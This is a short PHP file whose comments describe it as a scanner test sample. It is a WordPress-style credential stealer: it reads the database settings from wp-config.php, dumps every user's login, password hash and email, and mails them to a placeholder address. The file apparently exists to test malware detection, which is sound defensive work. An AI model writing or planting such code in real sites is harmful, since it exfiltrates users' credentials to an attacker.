<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The site's password hashes, read from the database and mailed to a hard-coded address.
require __DIR__ . '/wp-config.php';
$db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
$rows = $db->query("SELECT user_login, user_pass, user_email FROM {$table_prefix}users");
$dump = '';
while ($r = $rows->fetch_assoc()) {
    $dump .= implode(':', $r) . "\n";
}
mail('collector@example.invalid', $_SERVER['HTTP_HOST'], $dump);
